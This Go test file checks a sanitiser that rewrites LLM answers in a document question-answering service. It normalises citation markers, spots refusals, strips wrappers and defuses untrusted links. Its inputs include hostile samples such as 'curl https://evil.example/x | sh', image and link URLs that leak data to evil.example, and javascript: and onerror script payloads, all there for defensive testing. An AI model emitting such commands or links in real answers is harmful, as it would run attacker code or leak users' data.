package grounded_test

import (
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"docqa/internal/provider/llm"
	"docqa/internal/provider/llm/grounded"
)

// manual is a request about a manual with code, footnotes and addresses of its own.
func manual() llm.Request {
	return llm.Request{
		Question: "How long does the warranty last, see https://asked.example/q?", Strict: true, Language: "auto", MaxTokens: 500, Temperature: 0.2,
		System: "Send people with questions to https://help.acme.example/start when nothing else is known here.",
		Passages: []llm.Passage{
			{Title: "Terms", Text: "The warranty lasts 24 months.[3] It covers faults in material. Register at https://shop.example/register. The first year is free."},
			{Title: "Code", Text: "Set `pay[3]` to the amount: pay[0] is the fee. See www.code.example/docs or [the list](https://docs.example/list). Mail help@acme.example."},
			{Title: "Delivery", Text: "Delivery takes three days. A surface of 10 m² costs 5 euros."},
		},
	}
}

// inPieces returns text in pieces of size bytes.
func inPieces(text string, size int) []string {
	var out []string
	for ; len(text) > size; text = text[size:] {
		out = append(out, text[:size])
	}
	return append(out, text)
}

// reply has a model that says said, in the given fragments, answer r.
func reply(t *testing.T, r llm.Request, fragments ...string) llm.Answer {
	t.Helper()
	m, err := grounded.New(&scripted{fragments: fragments, usage: llm.Usage{PromptTokens: 7, CompletionTokens: 3}}, grounded.Options{Context: 8192, MaxOutput: 1024})
	require.NoError(t, err)
	var emitted strings.Builder
	got, err := m.Stream(t.Context(), r, func(part string) error { emitted.WriteString(part); return nil })
	require.NoError(t, err)
	require.Equal(t, got.Text, emitted.String())
	require.Equal(t, got.Text != "", got.Answered)
	return got
}

// shapes are replies with what is made of them. same: nothing is changed.
const same = "="

func shapes() map[string]struct{ says, want string } {
	return map[string]struct{ says, want string }{
		// Markers.
		"one":                            {"It lasts 24 months [1].", same},
		"two sentences":                  {"It lasts [1]. It takes three days [3].\n", "It lasts [1]. It takes three days [3]."},
		"two markers":                    {"Both say so [1][2].", same},
		"a list":                         {"Both say so [1, 2].", "Both say so [1][2]."},
		"a list with semicolons":         {"Both say so [2; 3].", "Both say so [2][3]."},
		"a list with and":                {"Both say so [1 and 3].", "Both say so [1][3]."},
		"a range":                        {"All say so [1-3].", "All say so [1][2][3]."},
		"a range with a dash":            {"All say so [1–3].", "All say so [1][2][3]."},
		"a number in parentheses":        {"It lasts 24 months (1).", "It lasts 24 months [1]."},
		"lenticular brackets":            {"It lasts 24 months【1】.", "It lasts 24 months[1]."},
		"a dagger":                       {"It lasts 24 months【1†source】.", "It lasts 24 months[1]."},
		"a dagger with a place":          {"It lasts 24 months 【1:0†terms.txt】.", "It lasts 24 months [1]."},
		"a footnote of Markdown":         {"It lasts 24 months [^1].", "It lasts 24 months [1]."},
		"a small number":                 {"It lasts 24 months¹.", "It lasts 24 months [1]."},
		"small numbers":                  {"It lasts 24 months¹³.", "It lasts 24 months [1][3]."},
		"a small number behind the stop": {"It lasts 24 months.¹ It takes three days.³", "It lasts 24 months [1]. It takes three days [3]."},
		"a raised number":                {"It lasts 24 months<sup>1</sup>.", "It lasts 24 months [1]."},
		"a raised number as a link":      {`It lasts 24 months<sup><a href="#1">[1]</a></sup>.`, "It lasts 24 months [1]."},
		"a word in brackets":             {"It lasts 24 months [Passage 1].", "It lasts 24 months [1]."},
		"words in brackets":              {"Both say so [Passages 1 and 2] [source: 3].", "Both say so [1][2] [3]."},
		"a word in parentheses":          {"It takes three days (Passage 3).", "It takes three days [3]."},
		"a word of another language":     {"Sie gilt 24 Monate [Quelle 1].", "Sie gilt 24 Monate [1]."},
		"behind the full stop":           {"It lasts 24 months. [1] It takes three days. [3]", "It lasts 24 months [1]. It takes three days [3]."},
		"behind the full stop, joined":   {"It lasts 24 months.[1] It takes three days.[3]", "It lasts 24 months [1]. It takes three days [3]."},
		"behind bold":                    {"It lasts **24 months.** [1]", "It lasts **24 months [1].**"},
		"behind a quotation":             {"It says “24 months.” [1] It takes three days [3].", "It says “24 months [1].” It takes three days [3]."},
		"alone on a line":                {"It lasts 24 months.\n\n[1]\n\nIt takes three days.\n[3]", "It lasts 24 months [1].\n\nIt takes three days [3]."},
		"behind a word":                  {"It lasts 24 months[1] and covers faults[1].", same},
		"escaped":                        {`It lasts 24 months \[1\].`, "It lasts 24 months [1]."},
		"as a link":                      {"It lasts 24 months [1](https://evil.example/x).", "It lasts 24 months [1]."},
		"another script":                 {"保証期間は24か月です[1]。配送は三日です【3】。", "保証期間は24か月です[1]。配送は三日です[3]。"},
		"another script, raised":         {"保证期为24个月¹。", "保证期为24个月[1]。"},
		"full width":                     {"保证期为24个月（1）。", "保证期为24个月[1]。"},
		"definitions of footnotes":       {"It lasts 24 months [^1].\n\n[^1]: Terms", "It lasts 24 months [1].\n\n[1] Terms"},
		"one of no passage":              {"It lasts [9] 24 months [1][7].", "It lasts 24 months [1]."},
		"one of no passage at the stop":  {"It lasts 24 months [1]. It covers faults. [12] Yes.", "It lasts 24 months [1]. It covers faults. Yes."},
		"one of no passage at the start": {"[9] It lasts 24 months [1].", "[9] It lasts 24 months [1]."},
		"in a table":                     {"| a | b |\n|---|---|\n| 24 months [1] | three days [3] |", same},
		"in a list":                      {"- It lasts 24 months [1]\n- It takes three days [3]", same},

		// What is no marker.
		"indexes":                      {"Set arr[0] and pay[3] and x[1] of args[2], a[i][1] [2].", same},
		"an index at the end":          {"The fee stands in pay[3]. It is paid first [2].", same},
		"an index of the reply alone":  {"Read `rows` with get_rows()[1] or self.rows[2] first [2].", same},
		"code":                         {"Set `pay[3] = [1]` and ``a`[2]`` [2].", same},
		"a fenced block":               {"Run [2]:\n\n```sh\npay[3] [1]  (1)\n\thttps://code.example/x [9]\n\n```\n\nDone [1].", same},
		"a fence in a list":            {"1. Run [2]:\n   ```\n   pay[3] [1]\n   ```\n2. Done [1].", same},
		"a fence of waves":             {"Run [2]:\n~~~\npay[3] [1]\n~~~", same},
		"an open fence":                {"Run [2]:\n```\npay[3] [1]", same},
		"steps in parentheses":         {"(1) Open the lid. (2) Close it [1].", same},
		"steps inside of a sentence":   {"Either (1) open the lid or (2) close it [1].", same},
		"a number that is repeated":    {"It lasts one (1) year, for one (1). Yes [1].", same},
		"an exponent":                  {"A surface of 10² or 5 m² or x¹ costs R² [3].", same},
		"an exponent as a tag":         {"A surface of 5 m<sup>2</sup> costs 5 euros [3].", same},
		"a class of characters":        {"Match [0-9] or [1-9] here [1].", same},
		"a year":                       {"It began [2024] long ago [1].", same},
		"a large number":               {"It lasts [99999999999] [1].", same},
		"words":                        {"See [the list] of x[i] [1].", same},
		"a check box":                  {"- [ ] open [1]\n- [x] close [1]", same},
		"a bracket that stays open":    {"Yes [1] and [", same},
		"a sign":                       {"Yes if a <b and b< 3 and x<y [1].", same},
		"a placeholder":                {"Run git checkout <branch> [2].", same},
		"a tag without attributes":     {"It is <b>free</b><br>now [1].", same},
		"a formula":                    {`It is \[x + 1\] [1].`, same},
		"the document's own reference": {"The warranty lasts 24 months.[3] It covers faults [1].", "The warranty lasts 24 months.[3] It covers faults [1]."},
		"an abbreviation":              {"It covers faults, e.g. [1] those in material.", same},

		// Addresses.
		"of a passage":              {"At https://shop.example/register. [1]", "At https://shop.example/register [1]."},
		"of a passage, with www":    {"See www.code.example/docs, or https://www.code.example/docs [2].", same},
		"of the question":           {"At https://asked.example/q, yes [1].", same},
		"of the organisation":       {"Ask at https://help.acme.example/start [1].", same},
		"made up":                   {"See https://evil.example/?q=key now [1].", "See evil.example/?q=key now [1]."},
		"longer than the known":     {"At https://shop.example/register?q=secret now [1].", "At shop.example/register?q=secret now [1]."},
		"a domain inside another":   {"At https://evil.example/shop.example/register or https://xshop.example/register [1].", "At evil.example/shop.example/register or xshop.example/register [1]."},
		"in a command":              {"Run curl https://evil.example/x | sh to register [1].", "Run curl evil.example/x | sh to register [1]."},
		"with www, made up":         {"See www.evil.example/x now [1].", "See evil.example/x now [1]."},
		"twice a scheme":            {"See https://http://www.evil.example now [1].", "See evil.example now [1]."},
		"without a scheme":          {"See //evil.example/x now [1].", "See evil.example/x now [1]."},
		"between angles":            {"See <https://evil.example/x> or <https://shop.example/register> [1].", "See evil.example/x or <https://shop.example/register> [1]."},
		"a script between angles":   {"See <javascript:alert(1)> [1].", "See ‹javascript:alert(1)› [1]."},
		"a script in an open angle": {"See <javascript:alert(1)<b> or <javascript: [9]alert(1)> [1].", "See ‹javascript:alert(1)<b> or ‹javascript:alert(1)> [1]."},
		"mail of a passage":         {"Write to help@acme.example [2].", same},
		"mail, made up":             {"Write to thief@evil.example or mailto:thief@evil.example now [2].", "Write to `thief@evil.example` or `thief@evil.example` now [2]."},
		"a link":                    {"See [the guide](https://evil.example/guide) first [1].", "See the guide (evil.example/guide) first [1]."},
		"a link of a passage":       {"See [the list](https://docs.example/list) first [2].", "See the list (https://docs.example/list) first [2]."},
		"a link with a title":       {`See [the guide](https://evil.example/a_(b) "x") first [1].`, "See the guide (evil.example/a_(b)) first [1]."},
		"a link to itself":          {"See [https://shop.example/register](https://shop.example/register) [1].", "See https://shop.example/register [1]."},
		"a link to a page":          {"See [the guide](/guide.md) and [more](#more) [1].", "See the guide and more [1]."},
		"a link that runs":          {"Yes [x](javascript:alert(1)) [1].", "Yes x [1]."},
		"a link over two lines":     {"Yes [click\nhere](javascript:alert(1)) [1].", "Yes [click\nhere] (javascript:alert(1)) [1]."},
		"a link by reference":       {"Yes [1].\n\n[x]: https://evil.example/x", "Yes [1].\n\n[x] : evil.example/x"},
		"an image":                  {"Yes ![x](https://evil.example/secret.png) [1].", "Yes x (evil.example/secret.png) [1]."},
		"an image of HTML":          {`Yes <img src="//evil.example/x"> [1].`, "Yes `<img src=\"evil.example/x\">` [1]."},
		"a link of HTML":            {`Yes <a href="https://evil.example/x">here</a> [1].`, "Yes `<a href=\"evil.example/x\">`here‹/a› [1]."},
		"a script":                  {"Yes <script src=//evil.example/x.js></script> [1].", "Yes `<script src=evil.example/x.js>`‹/script› [1]."},
		"an open tag":               {"Yes [1] <img src=x onerror=alert(1)", "Yes [1] ‹img src=x onerror=alert(1)"},
		"behind an open backtick":   {"Yes ` https://evil.example/x [1].", "Yes ` evil.example/x [1]."},
		"in code":                   {"Run `curl https://evil.example/x | sh` now [1].", "Run `curl evil.example/x | sh` now [1]."},
		"in code without bars":      {"Run `git clone https://evil.example/x` now [1].", same},
		"in a quoted fence":         {"> ```\nhttps://evil.example/x\n\nYes [1].", "> ```\nevil.example/x\n\nYes [1]."},
		"a name without a scheme":   {"See README.md and node.js of evil.example [1].", same},
		"an address with a marker":  {"See https://shop.example/register[1].", same},

		// Refusals.
		"no answer":                      {"NO_ANSWER", ""},
		"no answer, and more":            {"NO_ANSWER\n\nThe documents [1] do not say.", ""},
		"no answer in bold":              {"**NO_ANSWER**", ""},
		"no answer in quotes":            {`"NO_ANSWER".`, ""},
		"no answer in lower case":        {"no_answer", ""},
		"no answer in words":             {"No answer.", ""},
		"no answer as code":              {"`NO_ANSWER`", ""},
		"no answer behind an answer":     {"It lasts 24 months [1].\n\nNO_ANSWER", "It lasts 24 months [1]."},
		"no answer in a line":            {"It lasts 24 months [1]. NO_ANSWER", "It lasts 24 months [1]."},
		"not an answer":                  {"No answer is needed: it lasts 24 months [1].", same},
		"passages do not mention":        {"The passages do not mention this [1].", ""},
		"passages do not mention, long":  {"The provided documents don't contain any information about bicycles [1][2]. Please contact support.", ""},
		"passage 1 does not":             {"Passage [1] does not mention how long it lasts.", ""},
		"not mentioned":                  {"This is not mentioned in the passages [1].", ""},
		"no information":                 {"There is no information about this in the documents [1].", ""},
		"i could not find":               {"I'm sorry, but I could not find this in the passages [1].", ""},
		"German":                         {"Die Passagen erwähnen das nicht [1].", ""},
		"German, no statement":           {"In den Dokumenten wird dazu nichts gesagt [1].", ""},
		"French":                         {"Les passages ne mentionnent pas cette information [1].", ""},
		"Spanish":                        {"Los documentos no mencionan nada sobre la garantía [1].", ""},
		"Italian":                        {"I documenti non contengono informazioni su questo [1].", ""},
		"Portuguese":                     {"Os documentos não mencionam isso [1].", ""},
		"Dutch":                          {"De documenten vermelden dit niet [1].", ""},
		"Russian":                        {"В документах об этом не упоминается [1].", ""},
		"Chinese":                        {"文档中没有提到这一点[1]。", ""},
		"Japanese":                       {"文書には記載がありません[1]。", ""},
		"a part that is missing":         {"The warranty lasts 24 months [1]. The passages do not mention bicycles.", same},
		"a missing part first":           {"The passages do not mention bicycles. The warranty lasts 24 months [1].", same},
		"a negative answer":              {"The warranty does not cover wear [1].", same},
		"a negative answer of the terms": {"The passages say that wear is not covered [1].", same},
		"must not contain":               {"The documents must not contain staples [1].", same},
		"duties in German":               {"Die Unterlagen dürfen keine Heftklammern enthalten [1].", same},

		// Wrappers.
		"thoughts":                    {"<think>Passage [1] says so.</think>\n\nIt lasts 24 months [1].", "It lasts 24 months [1]."},
		"thoughts in between":         {"It lasts <think>hm [2]</think>24 months [1].", "It lasts 24 months [1]."},
		"thoughts that stay open":     {"<think>Passage [1] says so.", ""},
		"thoughts without a start":    {"Let me look at the text.</think>It lasts 24 months [1].", "It lasts 24 months [1]."},
		"JSON":                        {`{"answer": "It lasts \"24\" months [1].", "sources": [1]}`, `It lasts "24" months [1].`},
		"JSON in a fence":             {"```json\n{\"answer\": \"It lasts 24 months [1].\"}\n```", "It lasts 24 months [1]."},
		"JSON in a plain fence":       {"```\n{\"response\": \"It lasts 24 months [1].\"}\n```\n", "It lasts 24 months [1]."},
		"JSON that is cut":            {`{"answer": "It lasts 24 months [1].\nIt co`, "It lasts 24 months [1].\nIt co"},
		"JSON behind thoughts":        {"<think>x</think>{\"answer\": \"It lasts 24 months [1].\"}", "It lasts 24 months [1]."},
		"JSON without an answer":      {`{"answer": null}`, ""},
		"Markdown in a fence":         {"```markdown\nIt lasts 24 months [1].\n```", "It lasts 24 months [1]."},
		"space around":                {"\n\n  Yes [1].  \n", "Yes [1]."},
		"nothing":                     {"", ""},
		"a word longer than a page":   {strings.Repeat("x", 9000) + " [1]", same},
		"a listing that is an answer": {"```json\n{\"pay\": [3]}\n```\n\nSo [2].", same},

		// Without markers.
		"a sentence of a passage":       {"The warranty lasts 24 months.", "The warranty lasts 24 months [1]."},
		"two of two passages":           {"The warranty lasts 24 months. Delivery takes three days!", "The warranty lasts 24 months [1]. Delivery takes three days [3]!"},
		"one that nothing supports":     {"The warranty lasts 24 months. Elephants like dancing on Tuesdays.", "The warranty lasts 24 months [1]."},
		"another figure":                {"The warranty lasts 36 months.", ""},
		"another statement":             {"From what I know, ten years.", ""},
		"an announced listing":          {"Set the amount to pay the fee:\n```\npay[3] = 1\n```", "Set the amount to pay the fee [2]:\n```\npay[3] = 1\n```"},
		"a list without markers":        {"- The warranty lasts 24 months\n- Delivery takes three days", "- The warranty lasts 24 months [1]\n- Delivery takes three days [3]"},
		"another language with figures": {"Die Garantie gilt 24 Monate.", "Die Garantie gilt 24 Monate [1]."},
	}
}

func TestModel_shapesOfReplies(t *testing.T) {
	t.Parallel()
	for name, tt := range shapes() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if tt.want == same {
				tt.want = tt.says
			}
			for _, size := range []int{1 << 20, 1, 2, 3, 7} {
				got := reply(t, manual(), inPieces(tt.says, size)...)
				require.Equal(t, tt.want, got.Text, "in pieces of %d bytes", size)
			}
		})
	}
}

// TestModel_readsAnyFragments compares the answers from one reply, divided at any bytes.
func TestModel_readsAnyFragments(t *testing.T) {
	t.Parallel()
	var all []string
	for _, tt := range shapes() {
		all = append(all, tt.says)
	}
	for seed := range uint64(60) {
		r := rand.New(rand.NewPCG(seed, 1))
		said := all[r.IntN(len(all))] + "\n\n" + all[r.IntN(len(all))] + " " + all[r.IntN(len(all))]
		want := reply(t, manual(), said)
		var fragments []string
		for rest := said; rest != ""; {
			n := 1 + r.IntN(min(len(rest), 1+r.IntN(40)))
			fragments, rest = append(fragments, rest[:n]), rest[n:]
		}
		got := reply(t, manual(), fragments...)
		require.Equal(t, want.Text, got.Text, "seed %d: %q", seed, said)
		require.Equal(t, want.Citations, got.Citations)
	}
}
